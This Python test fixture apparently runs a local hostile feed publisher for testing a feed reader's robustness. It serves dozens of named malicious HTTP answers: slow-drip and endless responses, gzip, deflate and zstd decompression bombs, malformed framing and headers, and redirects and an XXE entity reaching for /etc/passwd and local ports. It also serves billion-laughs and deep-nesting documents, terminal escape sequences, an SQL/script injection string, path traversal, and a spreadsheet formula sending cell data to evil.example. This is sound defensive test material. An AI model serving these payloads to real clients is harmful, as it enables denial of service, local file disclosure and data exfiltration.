"""Answers of publishers that mean harm, each with a name. They run in a process of their own, so that what they cost is not
taken for lateness of the program."""
import contextlib
import functools
import gzip
import json
import multiprocessing
import os
import random
import shutil
import socket
import struct
import subprocess
import time
import zlib

from lab.publisher import Publisher, Request, reply, rss

OK = b'HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n'
FEED = rss([('1', 'A title', 'A text')])
# What a terminal, a log and a spreadsheet would each mistake for something else.
CONTROLS = '\x1b]0;forged\x07\x1b[31mred\x1b[0m\x9b31m\x85\u2028\u202e\u2066\x7f\b\r\nerror: forged line'
INJECTION = "'; DROP TABLE article; -- <script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
LARGE = 24 << 20


def whole(body, *lines):
    """One answer with these header lines, as they are."""
    head = OK + f'Content-Length: {len(body)}\r\n'.encode()
    return head + b''.join(line.encode('utf-8', 'surrogateescape') + b'\r\n' for line in lines) + b'\r\n' + body


def status(line, *fields, body=b''):
    head = f'HTTP/1.1 {line}\r\nContent-Length: {len(body)}\r\n'.encode()
    return head + b''.join(field.encode('utf-8', 'surrogateescape') + b'\r\n' for field in fields) + b'\r\n' + body


def moved(location, code='302 Found', *fields, body=b''):
    return status(code, f'Location: {location}', *fields, body=body)


# ---- answers that do not end, as functions of the connection

def forever(first, piece, pause):
    def send(connection):
        with contextlib.suppress(OSError):
            connection.sendall(first)
            while True:
                connection.sendall(piece() if callable(piece) else piece)
                time.sleep(pause)
    return send


def chunk(data):
    return b'%x\r\n%s\r\n' % (len(data), data)


def silence(connection):
    with contextlib.suppress(OSError):
        connection.recv(1)


def stall(first):
    def send(connection):
        with contextlib.suppress(OSError):
            connection.sendall(first)
            connection.recv(1)
    return send


def reset(connection):
    connection.sendall(OK + b'Content-Length: 100000\r\n\r\n' + FEED)
    time.sleep(0.05)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))


# ---- bodies

class Later:
    """An answer that takes time to make, and is made only if it is wanted."""

    def __init__(self, make):
        self.make = make


def squeezed(data, layers=1):
    for _ in range(layers):
        data = gzip.compress(data, 6)
    return data


@functools.cache
def bomb(layers=1):
    return squeezed(bomb(layers - 1)) if layers else b' ' * LARGE


def stored(data, layers):
    """Gzip that squeezes nothing, in many layers."""
    for _ in range(layers):
        packer = zlib.compressobj(0, zlib.DEFLATED, 31)
        data = packer.compress(data) + packer.flush()
    return data


def zstandard(data, layers=1, *options):
    for _ in range(layers):
        data = subprocess.run(['zstd', '-q', '-c', *options], input=data, capture_output=True, check=True).stdout
    return data


def header_of(coding, count):
    """Lines of at most 60,000 characters."""
    per_line = 60_000 // (len(coding) + 1)
    lines = []
    while count > 0:
        lines.append('Content-Encoding: ' + ','.join([coding] * min(count, per_line)))
        count -= per_line
    return lines


def item(inside):
    return b'<rss version="2.0"><channel><title>t</title><item><guid>1</guid>' + inside + b'</item></channel></rss>'


def entities(levels):
    declared = b'<!ENTITY a0 "ha">' + b''.join(b'<!ENTITY a%d "%s">' % (k, b'&a%d;' % (k - 1) * 10) for k in range(1, levels))
    return b'<!DOCTYPE rss [' + declared + b']>' + item(b'<title>&a%d;</title>' % (levels - 1))


def json_feed(text):
    entry = {'id': text, 'url': 'http://e.example/' + text, 'title': text, 'content_text': text, 'summary': text, 'tags': [text],
             'authors': [{'name': text}], 'attachments': [{'url': 'http://e.example/' + text, 'mime_type': text}]}
    return json.dumps({'version': 'https://jsonfeed.org/version/1.1', 'title': text, 'description': text, 'items': [entry]}).encode()


def entries(count, guid=None):
    items = b''.join(b'<item><guid>%s</guid><title>t%d</title><link>http://e.example/%d</link></item>'
                     % (guid or b'%d' % k, k, k) for k in range(count))
    return b'<rss version="2.0"><channel><title>t</title>' + items + b'</channel></rss>'


def clean(text):
    return ''.join(letter for letter in text if letter in '\t\n\r' or ord(letter) >= 32)


def kinds():
    """Name to answer: bytes, a function of the connection, or ('path', function of the request); now, or later."""
    found = {
        'head drips': forever(b'HTTP/1.1 200 OK\r\nX: ', b'a', 0.5),
        'body drips': forever(OK + b'Content-Length: 1000000\r\n\r\n', b'<', 0.5),
        'silence': silence,
        'stalls': stall(OK + b'Content-Length: 1000000\r\n\r\n<rss>'),
        'endless headers': forever(b'HTTP/1.1 200 OK\r\n', lambda: b'X-%d: aaaaaaaaaaaaaaaa\r\n' % random.getrandbits(40) * 20, 0.01),
        'endless header line': forever(b'HTTP/1.1 200 OK\r\nX: ', b'a' * 32768, 0.01),
        'endless interim answers': forever(b'', b'HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload\r\n\r\n' * 10, 0.01),
        'endless body': forever(OK + b'Transfer-Encoding: chunked\r\n\r\n', chunk(b' ' * 32768), 0.005),
        'endless 404': forever(b'HTTP/1.1 404 No\r\nTransfer-Encoding: chunked\r\n\r\n', chunk(b' ' * 32768), 0.005),
        'endless single bytes': forever(OK + b'Transfer-Encoding: chunked\r\n\r\n', chunk(b' ') * 20, 0.01),
        'endless empty gzip': forever(OK + b'Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n', chunk(gzip.compress(b'') * 500), 0.01),
        'endless chunk extension': forever(OK + b'Transfer-Encoding: chunked\r\n\r\n5;', b'a' * 32768, 0.01),
        'endless trailer': forever(OK + b'Transfer-Encoding: chunked\r\n\r\n' + chunk(FEED) + b'0\r\n', b'X: aaaaaaaaaaaaaaaaaaa\r\n' * 20, 0.01),
        'reset': reset,
        # compressed
        'bomb gzip': Later(lambda: whole(bomb(), 'Content-Encoding: gzip')),
        'bomb gzip twice': Later(lambda: whole(bomb(2), 'Content-Encoding: gzip, gzip')),
        'bomb gzip thrice': Later(lambda: whole(bomb(3), 'Content-Encoding: gzip, gzip, gzip')),
        'bomb deflate': Later(lambda: whole(zlib.compress(b' ' * LARGE), 'Content-Encoding: deflate')),
        'bomb that is a file': Later(lambda: whole(bomb())),
        'gzip members': whole(squeezed(b' ') * 20_000, 'Content-Encoding: gzip'),
        'gzip stored 2000 deep': Later(lambda: whole(stored(FEED, 2000), *header_of('gzip', 2000))),
        'codings 50000': whole(FEED, *header_of('gzip', 50_000)),
        'codings 60000': whole(FEED, *header_of('br', 60_000)),
        'coding fields 5000': whole(FEED, *['Content-Encoding: zstd'] * 5000),
        'coding unknown': whole(b'\1\2\3', 'Content-Encoding: ' + 'x' * 5000),
        'coding that lies': whole(b'\0' * 1000, 'Content-Encoding: gzip'),
        'gzip cut short': whole(gzip.compress(FEED)[:-9], 'Content-Encoding: gzip'),
        # framing
        'length too long': OK + b'Content-Length: %d\r\n\r\n' % (len(FEED) + 1000) + FEED,
        'length too short': OK + b'Content-Length: 10\r\n\r\n' + FEED,
        'two lengths': OK + b'Content-Length: %d\r\nContent-Length: 5\r\n\r\n' % len(FEED) + FEED,
        'negative length': OK + b'Content-Length: -1\r\n\r\n' + FEED,
        'huge length': OK + b'Content-Length: 99999999999999999999999\r\n\r\n' + FEED,
        'length and chunks': OK + b'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n' + chunk(FEED) + b'0\r\n\r\n',
        'bad chunk': OK + b'Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nzz\r\n',
        'huge chunk': OK + b'Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nhello',
        'no HTTP': FEED,
        'all bytes': bytes(range(256)) * 400,
        'status 999': b'HTTP/1.1 999 \x1b[31mX\r\nContent-Length: 0\r\n\r\n',
        'long reason': b'HTTP/1.1 503 ' + b'x' * 200_000 + b'\r\nContent-Length: 0\r\n\r\n',
        # headers
        'folded 60000': whole(FEED, 'X: a\r\n' + '\r\n'.join([' b'] * 60_000)),
        'fields 50000': whole(FEED, *['a:'] * 50_000),
        'links 8000': whole(FEED, 'Link: ' + '<http://h.example/>;rel=hub,' * 3000, 'Link: ' + '<http://h.example/>;rel=hub,' * 3000),
        'quotes': whole(FEED, 'Cache-Control: ' + 'a="\\"' * 18_000, 'Link: ' + '<x>;a="' * 12_000),
        'cache for ever': whole(FEED, 'Cache-Control: max-age=' + '9' * 400, 'Expires: Fri, 31 Dec 9999 23:59:59 GMT', 'Age: -9'),
        'long validator': whole(FEED, 'ETag: "' + 'e' * 200_000 + '"'),
        'validator of controls': whole(FEED, 'ETag: "\x01\x1b[31m\x7f"', 'Last-Modified: \x1b[2J'),
        'charset that lies': b'HTTP/1.1 200 OK\r\nContent-Type: text/xml; charset=utf-16\r\nContent-Length: %d\r\n\r\n' % len(FEED) + FEED,
        'long charset': b'HTTP/1.1 200 OK\r\nContent-Type: text/xml; charset=' + b'x' * 90_000 + b'\r\nContent-Length: %d\r\n\r\n' % len(FEED) + FEED,
        # redirects
        'redirects without end': ('path', lambda request: moved(f'/x{random.random()}')),
        'long redirect': moved('/' + 'a' * 200_000),
        'redirect to a file': moved('file:///etc/passwd'),
        'redirect to gopher': moved('gopher://127.0.0.1:25/x'),
        'redirect of controls': moved('/%0d%0aX-Injected:%20yes\t\x1b[31m'),
        'redirect to nothing': moved(''),
        'redirect of dots': moved('/..' * 30_000),
        'redirect of labels': moved('http://' + 'a.' * 40_000 + 'example/'),
        'redirect with a body': moved('/none', body=b'x' * (17 << 20)),
        # structure
        'entities': whole(entities(12)),
        'outside entity': whole(b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>' + item(b'<title>&x;</title>')),
        'deep XML': whole(b'<rss version="2.0"><channel><title>t</title><item><guid>1</guid>' + b'<a>' * 3_000_000),
        'deep JSON': whole(b'{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{"id":"1","x":' + b'[' * 8_000_000),
        'deep HTML': whole(item(b'<description><![CDATA[' + b'<div>' * 2_000_000 + b']]></description>')),
        'too large': whole(item(b'<title>' + b'w' * (20 << 20) + b'</title>')),
        'one guid': whole(entries(20_000, b'g')),
        'dates': whole(b'<rss version="2.0"><channel><title>t</title><ttl>99999999999999999999</ttl>' + b''.join(
            b'<item><guid>d%d</guid><title>d%d</title><pubDate>%s</pubDate></item>' % (k, k, date) for k, date in enumerate(
                [b'Fri, 31 Dec 292277026596 23:59:59 GMT', b'0000-00-00T00:00:00Z', b'9999-12-31T23:59:59+99:99', b'-1', b'1e400',
                 b'+292278994-08-17T07:12:55Z', b'9' * 30])) + b'</channel></rss>'),
        # words
        'controls': whole(rss([(clean(CONTROLS), clean(CONTROLS), clean(CONTROLS))], clean(CONTROLS))),
        'controls in JSON': whole(json_feed(CONTROLS)),
        'injection': whole(rss([(INJECTION, INJECTION, INJECTION)], INJECTION)), 'injection in JSON': whole(json_feed(INJECTION)),
        'formula': whole(rss([(FORMULA, FORMULA, FORMULA)], FORMULA)), 'formula in JSON': whole(json_feed('\t' + FORMULA)),
        'paths': whole(json_feed('../../../../etc/passwd\0.warc.gz')), 'half a pair': whole(json_feed('\ud800 \udfff')),
    }
    for number, value in enumerate(['9' * 30, '-1', '0', 'NaN', 'Fri, 31 Dec 9999 23:59:59 GMT', '1e308', 'Mon, 00 Jan 0000 00:00:00 GMT']):
        found[f'retry after {number}'] = status('503 No', 'Retry-After: ' + value)
    if shutil.which('zstd'):
        found['bomb zstd'] = Later(lambda: whole(zstandard(bomb(0)), 'Content-Encoding: zstd'))
        found['bomb zstd window'] = Later(lambda: whole(zstandard(bomb(0), 1, '-3', '--long=31'), 'Content-Encoding: zstd'))
        noise = item(b'<description>' + os.urandom(2 << 20).hex().encode() + b'</description>')
        found['zstd 60 deep'] = Later(lambda: whole(zstandard(noise, 60, '-1', '--zstd=wlog=24'), *header_of('zstd', 60)))
    return found


class _Inside:
    """What a publisher needs of a test, in the other process."""

    def at_end(self, *_):
        pass


def serve(answers, addresses, port, count):
    names = list(answers)

    def answer(request: Request):
        with count.get_lock():
            count.value += 1
        place = request.path.lstrip('/').split('/')[0]
        given = answers[names[int(place)]] if place.isdigit() and int(place) < len(names) else reply(FEED)
        if isinstance(given, tuple):
            return given[1](request)
        if callable(given):
            return given

        def send(connection):
            """And then the end of the connection, which 'what follows' is also an answer to."""
            with contextlib.suppress(OSError):
                connection.sendall(given)
        return send

    publisher = Publisher(_Inside(), answer, addresses)
    port.value = publisher.port
    while os.getppid() != 1:
        time.sleep(1)


class Hostile:
    """A process that answers as above, each kind at an address of its own."""

    def __init__(self, world, answers, network):
        self.names = list(answers)
        answers = {name: answer.make() if isinstance(answer, Later) else answer for name, answer in answers.items()}
        self.addresses = [f'{network}{number + 1}' for number in range(len(self.names))]
        context = multiprocessing.get_context('fork')
        self.count, port = context.Value('l', 0), context.Value('l', 0)
        self.process = context.Process(target=serve, args=(answers, self.addresses, port, self.count), daemon=True)
        self.process.start()
        world.at_end(self.process.kill)
        world.until(lambda: port.value, 60)
        self.port = port.value

    @property
    def urls(self):
        return [f'http://{address}:{self.port}/{number}/' for number, address in enumerate(self.addresses)]
